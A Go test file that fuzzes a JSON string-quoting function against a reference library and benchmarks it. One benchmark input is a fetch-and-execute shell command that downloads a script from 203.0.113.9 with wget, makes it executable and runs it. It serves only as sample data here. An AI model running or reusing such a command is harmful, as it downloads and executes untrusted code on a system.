package event

import (
	"strings"
	"testing"

	"github.com/go-json-experiment/json/jsontext"
)

// Every string is quoted as the library quotes it.
func FuzzAppendQuoted(f *testing.F) {
	for c := range 256 {
		for _, at := range []int{0, 3, 7, 8, 12} {
			f.Add(strings.Repeat("x", at) + string([]byte{byte(c)}) + strings.Repeat("y", 9))
		}
	}
	for _, s := range []string{"", "\"\\", "\x7f", "é日本\U0001f600", "\u2028\u2029", "\ufffd", "\xed\xa0\x80", "a\xc3", "<&>", "\x1f !\"#[\\]"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		want, _ := jsontext.AppendQuote([]byte("before"), s) // its only error is the invalid UTF-8, which it replaces
		if got := AppendQuoted([]byte("before"), s); string(got) != string(want) {
			t.Errorf("AppendQuoted(%q) = %s, want %s", s, got, want)
		}
	})
}

func BenchmarkAppendQuoted(b *testing.B) {
	for name, s := range map[string]string{
		"id": "203.0.113.9", "command": `cd /tmp || cd /var/run; wget "http://203.0.113.9/bins.sh"; chmod 777 bins.sh; sh bins.sh`,
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			var dst []byte
			for b.Loop() {
				dst = AppendQuoted(dst[:0], s)
			}
		})
	}
}
